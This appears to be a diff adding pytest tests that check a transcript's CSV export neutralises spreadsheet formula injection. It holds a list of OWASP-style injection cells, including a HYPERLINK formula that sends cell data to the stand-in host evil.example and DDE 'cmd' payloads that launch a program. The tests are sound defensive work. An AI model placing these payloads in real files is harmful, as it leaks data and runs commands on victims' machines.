@@ -136,3 +136,88 @@ def test_html_export_written_to_a_file_is_the_same_page(scripted, tmp_path):
     path = tmp_path / "t.html"
     assert transcript.to_html(str(path)) == path.read_text(encoding="utf-8")
     assert_only_own_markup(path.read_text(encoding="utf-8"))
+
+
+# -- CSV: cells a spreadsheet would run --------------------------------------------------------------
+
+#: Cells that spreadsheets run (OWASP's CSV injection examples and the start characters they use).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1dcmd|' /C calc'!A0",  # fullwidth =
+    "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
+]
+NUMERIC = {"status", "elapsed_ms"}
+
+
+def in_header(formula: str) -> bool:
+    """Whether a header value can carry it (no CR or LF, latin-1): else it travels in the body only."""
+    return "\r" not in formula and "\n" not in formula and formula.isascii()
+
+
+def formula_transcript(scripted) -> Transcript:
+    """A transcript whose provider-controlled cells (content type, body preview) start with each formula."""
+    transcript = Transcript()
+    for n, formula in enumerate(FORMULAS):
+        path = f"/token{n}"
+        ctype = formula if in_header(formula) else "text/plain; charset=utf-8"
+        scripted.routes[path] = Reply(400, formula.encode(), content_type=ctype)
+        config = WebhookAuthConfig(auth_type="oauth_client_credentials", token_url=scripted.url(path),
+                                   client_id="c", client_secret=CANARY_SECRET)
+        with pytest.raises(WebhookAuthError):
+            ClientCredentialsFlow(config, transcript).fetch_token()
+    transcript.record(FORMULAS[0], method=FORMULAS[1], url=FORMULAS[2], outcome=FORMULAS[3], note=FORMULAS[0],
+                      response_type=FORMULAS[4], response_body=FORMULAS[0], status=-1, elapsed_ms=-2.5)
+    return transcript
+
+
+def read_csv(text: str) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_export_neutralises_every_cell_a_spreadsheet_would_run(scripted):
+    transcript = formula_transcript(scripted)
+    written = read_csv(transcript.to_csv())
+    assert len(written) == len(FORMULAS) + 1 == len(transcript)
+    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    for row in written:
+        for column, cell in row.items():
+            if column not in NUMERIC:
+                assert not cell.startswith(starts), (column, cell)
+    previews = [row["response_preview"] for row in written[:-1]]
+    types = [row["response_type"] for row in written[:-1]]
+    for formula, preview, ctype in zip(FORMULAS, previews, types):
+        assert preview.startswith("'") and formula.strip() in preview  # intact after the quote
+        if in_header(formula):
+            assert ctype == "'" + formula.lstrip()  # a header value loses its leading tab in transit
+    last = written[-1]
+    assert last["step"] == "'" + FORMULAS[0] and last["method"] == "'" + FORMULAS[1]
+    assert last["response_type"] == "'" + FORMULAS[4]
+    assert last["status"] == "-1" and last["elapsed_ms"] == "-2.5"  # numbers stay numbers
+    assert all(row["status"] == "400" for row in written[:-1])
+
+
+def test_csv_export_to_a_file_matches_the_text(scripted, tmp_path):
+    transcript = formula_transcript(scripted)
+    path = tmp_path / "t.csv"
+    assert transcript.to_csv(str(path)) == path.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("cell, expected", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("\n=1", "'\n=1"), ("\uff1d1", "'\uff1d1"), ("\uff20x", "'\uff20x"),
+    ("a=1", "a=1"), (" =1", " =1"), ("", ""), ("'=1", "'=1"), ("ok", "ok"),
+    (-1, -1), (-2.5, -2.5), (400, 400), (None, None),
+])
+def test_spreadsheet_safe(cell, expected):
+    from widgets.core.transcript import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == expected
